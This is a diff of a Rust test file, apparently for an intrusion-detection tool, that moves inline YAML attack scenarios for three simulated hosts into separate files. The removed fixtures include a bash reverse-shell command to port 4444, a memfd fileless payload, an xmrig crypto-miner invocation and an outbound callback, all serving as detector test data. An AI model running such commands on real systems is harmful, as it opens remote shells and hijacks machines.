@@ -47,67 +47,13 @@ pub(crate) fn exec_batch(exe: &str, command: &str) -> Batch {
 }
 
 /// What the scanning host's sensor reports: the scan, its own half of the shell, and daily life.
-const WEB: &str = r#"
-name: web-1
-processes:
-  actor: {exe: /actor, args: actor scan}
-  listener: {exe: /actor, args: actor listen 4444}
-  nginx: {exe: /usr/sbin/nginx, args: nginx}
-  cron: {exe: /bin/sh, args: [sh, -c, "date; ls"]}
-  date: {parent: cron, exe: /usr/bin/date, args: date}
-  dig: {exe: /usr/bin/dig, args: dig}
-  ping: {exe: /usr/bin/ping, args: ping}
-events:
-  - {exec: cron, stdio: [pipe]}
-  - {exec: date, stdio: [pipe]}
-  - {flow: nginx, direction: incoming, local: "10.77.0.11:80", remote: "10.77.0.12:4{n}", n: 1000-1100, sent: SYN ACK FIN, received: SYN ACK FIN, packets: 6, after_ms: 10}
-  - {flow: dig, protocol: udp, direction: outgoing, local: "10.77.0.11:4{n}", remote: "203.0.113.66:53", n: 2000-2060, sent: any, received: any, after_ms: 10}
-  - {flow: ping, protocol: icmp, direction: outgoing, local: "[fd77::11]:128", remote: "[fd77::13]:0", sent: any}
-  - {flow: "-", protocol: icmp, local: "[fd77::11]:129", remote: "[fd77::13]:0", received: any}
-  - {flow: actor, direction: outgoing, local: "10.77.0.11:40{n}", remote: "10.77.0.12:{n}", n: 100-250, sent: SYN, received: RST ACK, after_ms: 1}
-  - {connect_failed: actor, local: "10.77.0.11:40{n}", remote: "10.77.0.12:{n}", n: 100-250}
-  - {flow: "-", direction: outgoing, local: "10.77.0.11:40{n}", remote: "10.77.0.13:{n}", n: 100-250, sent: SYN, received: RST ACK, after_ms: 1}
-  - {connect_failed: actor, local: "10.77.0.11:40{n}", remote: "10.77.0.13:{n}", n: 100-250}
-  - {accept: listener, local: "10.77.0.11:4444", remote: "10.77.0.12:45678"}
-"#;
+const WEB: &str = include_str!("scenario/web-1.yml");
 
 /// What the attacked host's sensor reports.
-const APP: &str = r#"
-name: app-1
-processes:
-  outer: {exe: /usr/bin/bash, args: [bash, -c, "bash -i >& /dev/tcp/10.77.0.11/4444 0>&1"]}
-  shell: {parent: outer, exe: /usr/bin/bash, args: bash -i}
-  id: {parent: shell, exe: /usr/bin/id, args: id}
-  actor: {parent: shell, exe: /actor, args: actor memfd}
-  hidden: {parent: actor, exe: "/memfd:payload", args: payload, flags: [memfd]}
-  miner: {parent: shell, exe: /tmp/xmrig, args: xmrig -o stratum+tcp://pool.example:3333 -u WALLET}
-  caller: {parent: shell, exe: /actor, args: actor call 203.0.113.66 443}
-  client: {exe: /usr/bin/curl, args: curl http://10.77.0.11/}
-events:
-  - {flow: client, direction: outgoing, local: "10.77.0.12:4{n}", remote: "10.77.0.11:80", n: 1000-1100, sent: SYN ACK FIN, received: SYN ACK FIN, packets: 6, after_ms: 10}
-  - {flow: "-", direction: incoming, local: "10.77.0.12:{n}", remote: "10.77.0.11:40{n}", n: 100-250, sent: RST ACK, received: SYN, after_ms: 1}
-  - {exec: outer, stdio: ["null"], after_ms: 100}
-  - {connect: outer, local: "10.77.0.12:45678", remote: "10.77.0.11:4444", after_ms: 5}
-  - {exec: shell, stdio: ["socket:45678>10.77.0.11:4444"], after_ms: 1}
-  - {exec: id, stdio: ["socket:45678>10.77.0.11:4444"], after_ms: 200}
-  - {exec: actor, stdio: ["socket:45678>10.77.0.11:4444"], after_ms: 200}
-  - {exec: hidden, after_ms: 10}
-  - {exec: miner, after_ms: 200}
-  - {exec: caller, after_ms: 200}
-  - {flow: "-", direction: outgoing, local: "10.77.0.12:45999", remote: "203.0.113.66:443", sent: SYN ACK, received: SYN ACK}
-  - {connect: caller, local: "10.77.0.12:45999", remote: "203.0.113.66:443", after_ms: 3}
-  - {flow: "-", local: "10.77.0.12:45999", remote: "203.0.113.66:443", sent: ACK FIN, received: ACK FIN, after_ms: 900}
-"#;
+const APP: &str = include_str!("scenario/app-1.yml");
 
 /// What the third host's sensor reports: it is scanned, and its daily life goes on.
-const DB: &str = r#"
-name: db-1
-processes:
-  postgres: {exe: /usr/lib/postgresql/bin/postgres, args: postgres}
-events:
-  - {flow: postgres, direction: incoming, local: "10.77.0.13:5432", remote: "10.77.0.12:4{n}", n: 1000-1100, sent: SYN ACK FIN, received: SYN ACK FIN, packets: 6, after_ms: 10}
-  - {flow: "-", direction: incoming, local: "10.77.0.13:{n}", remote: "10.77.0.11:40{n}", n: 100-250, sent: RST ACK, received: SYN, after_ms: 1}
-"#;
+const DB: &str = include_str!("scenario/db-1.yml");
 
 fn findings(order: &[&str]) -> FindingSet {
     let mut detectors = Detectors::new(&PolicySet::embedded());
@@ -196,11 +142,13 @@ prop_compose! {
     /// A batch of any records over a few processes; only its indexes are in range.
     fn any_batch()(
         strings in proptest::collection::vec(proptest::collection::vec(any::<u8>(), 0..20), 1..6),
-        processes in proptest::collection::vec((any::<u32>(), 0u32..6, any::<[u32; 3]>(), any::<u32>()), 0..6),
+        processes in proptest::collection::vec(
+            (any::<u32>(), 0u32..6, any::<[u32; 3]>(), any::<u32>()), 0..6),
         execs in proptest::collection::vec((any::<u64>(), any::<u32>(), any_ends(), 0u8..8), 0..8),
         flows in proptest::collection::vec(
             (any::<u64>(), any::<u32>(), any_ends(), any::<[u8; 5]>(), any::<[u64; 2]>()), 0..40),
-        connections in proptest::collection::vec((any::<u64>(), any::<u32>(), any_ends(), 0u8..8), 0..20),
+        connections in proptest::collection::vec(
+            (any::<u64>(), any::<u32>(), any_ends(), 0u8..8), 0..20),
         other in proptest::collection::vec((any::<u64>(), any::<u32>(), 0u8..3), 0..8),
     ) -> Batch {
         let mut batch = empty();
